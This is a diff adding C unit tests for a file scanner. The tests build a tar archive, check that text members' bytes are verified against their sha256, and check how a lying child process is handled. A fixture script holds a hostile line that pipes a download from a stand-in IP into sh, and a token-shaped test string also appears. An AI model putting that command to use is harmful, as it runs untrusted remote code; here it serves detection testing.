@@ -17,6 +17,7 @@
 #include "vocab.h"
 
 #define TOKEN "ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ"
+#define TAR_TEXT "#!/bin/sh\necho setting up\ncurl -s https://198.51.100.23/x | sh\n"
 
 static struct rule_set *rs;
 static struct scan_engine *engine;
@@ -244,6 +245,141 @@ START_TEST(t_crash)
 }
 END_TEST
 
+/* Appends one ustar member (a regular file) to b. */
+static void
+tar_add(struct dynbuf *b, const char *name, const void *data, size_t n)
+{
+	unsigned char h[512];
+	unsigned sum = 0;
+	size_t i;
+	static const unsigned char zero[512];
+
+	memset(h, 0, sizeof(h));
+	memcpy(h, name, strlen(name));
+	memcpy(h + 100, "0000644", 8);
+	memcpy(h + 108, "0000000", 8);
+	memcpy(h + 116, "0000000", 8);
+	snprintf((char *)h + 124, 12, "%011o", (unsigned)n);
+	memcpy(h + 136, "00000000000", 12);
+	memset(h + 148, ' ', 8);
+	h[156] = '0';
+	memcpy(h + 257, "ustar", 6);
+	memcpy(h + 263, "00", 2);
+	for (i = 0; i < sizeof(h); i++)
+		sum += h[i];
+	snprintf((char *)h + 148, 8, "%06o", sum);
+	ck_assert_int_eq(dynbuf_add(b, h, sizeof(h)), 0);
+	ck_assert_int_eq(dynbuf_add(b, data, n), 0);
+	if (n % 512)
+		ck_assert_int_eq(dynbuf_add(b, zero, 512 - n % 512), 0);
+}
+
+/* A tar of a text member and a binary one, in a memfd. */
+static int
+tar_fd(void)
+{
+	static const unsigned char bin[] = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0,
+	    0, 0, 0, 0, 0, 0, 0, 0, 0};
+	static const unsigned char zero[1024];
+	struct dynbuf b;
+	int fd = memfd_create("artifact", 0);
+
+	ck_assert_int_ge(fd, 0);
+	dynbuf_init(&b, 1 << 20);
+	tar_add(&b, "run.sh", TAR_TEXT, strlen(TAR_TEXT));
+	tar_add(&b, "tool.bin", bin, sizeof(bin));
+	ck_assert_int_eq(dynbuf_add(&b, zero, sizeof(zero)), 0);
+	ck_assert_int_eq(write(fd, b.data, b.len), (ssize_t)b.len);
+	dynbuf_free(&b);
+	return fd;
+}
+
+/* Scans the tar as "x.tar"; the items in items, the findings in fl. */
+static void
+scan_tar(struct scan_launcher *l, struct scan_item_list *items,
+    struct finding_list *fl)
+{
+	uint64_t bytes = 0;
+	enum al_kind read = AL_KIND_AUTO;
+	int fd = tar_fd();
+	struct scan_req r = {fd, "x.tar", "x.tar", fl, &bytes, NULL,
+	    AL_KIND_AUTO, items, &read};
+
+	ck_assert_int_eq(scan_launcher_scan(l, &r), 0);
+	close(fd);
+}
+
+static const struct scan_item *
+item_of(const struct scan_item_list *l, const char *path)
+{
+	size_t i;
+
+	for (i = 0; i < l->n; i++)
+		if (strcmp(l->v[i].path, path) == 0)
+			return &l->v[i];
+	ck_abort_msg("no item %s", path);
+	return NULL;
+}
+
+/* A text member's bytes come back from the child, checked against its
+ * sha256; a binary member's never do. */
+START_TEST(t_member_bytes_kept_for_text)
+{
+	struct scan_launcher *l;
+	struct scan_item_list items = {0};
+	struct finding_list fl = {0};
+	const struct scan_item *it;
+
+	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
+	scan_tar(l, &items, &fl);
+	ck_assert_uint_eq(count_rule(&fl, "test-curl-pipe-shell"), 1);
+	it = item_of(&items, "x.tar!/run.sh");
+	ck_assert_ptr_nonnull(it->content);
+	ck_assert_uint_eq(it->content_len, strlen(TAR_TEXT));
+	ck_assert_mem_eq(it->content, TAR_TEXT, strlen(TAR_TEXT));
+	it = item_of(&items, "x.tar!/tool.bin");
+	ck_assert_ptr_null(it->content);
+	ck_assert_str_ne(it->type, "text/plain");
+	scan_launcher_stop(l);
+	scan_item_list_free(&items);
+	finding_list_free(&fl);
+}
+END_TEST
+
+/* A child that sends bytes other than those it hashed: the parent
+ * refuses them, keeps no member's bytes, and the artifact is unscannable
+ * with the reason; the next artifact is scanned and kept normally. */
+START_TEST(t_member_bytes_must_match_sha256)
+{
+	struct scan_launcher *l;
+	struct scan_item_list bad = {0}, good = {0};
+	struct finding_list fbad = {0}, fgood = {0};
+	size_t i;
+
+	setenv("AIRLOCK_TEST_CHILD_FAULT", "membytes:x.tar", 1);
+	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
+	scan_tar(l, &bad, &fbad);
+	ck_assert_uint_eq(count_rule(&fbad, "airlock.unscannable"), 1);
+	ck_assert_uint_eq(fbad.n, 1); /* what the liar found is dropped too */
+	ck_assert_msg(strstr(excerpt_of(&fbad, "airlock.unscannable"),
+	    "do not match their sha256") != NULL, "reason: %s",
+	    excerpt_of(&fbad, "airlock.unscannable"));
+	for (i = 0; i < bad.n; i++)
+		ck_assert_ptr_null(bad.v[i].content);
+	scan_launcher_stop(l);
+	unsetenv("AIRLOCK_TEST_CHILD_FAULT");
+	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
+	scan_tar(l, &good, &fgood);
+	ck_assert_ptr_nonnull(item_of(&good, "x.tar!/run.sh")->content);
+	ck_assert_uint_eq(count_rule(&fgood, "airlock.unscannable"), 0);
+	scan_launcher_stop(l);
+	scan_item_list_free(&bad);
+	scan_item_list_free(&good);
+	finding_list_free(&fbad);
+	finding_list_free(&fgood);
+}
+END_TEST
+
 static Suite *
 launch_suite(void)
 {
@@ -259,6 +395,8 @@ launch_suite(void)
 	tcase_add_test(tc, t_hang_times_out);
 	tcase_add_test(tc, t_malformed_frame);
 	tcase_add_test(tc, t_crash);
+	tcase_add_test(tc, t_member_bytes_kept_for_text);
+	tcase_add_test(tc, t_member_bytes_must_match_sha256);
 	suite_add_tcase(s, tc);
 	return s;
 }
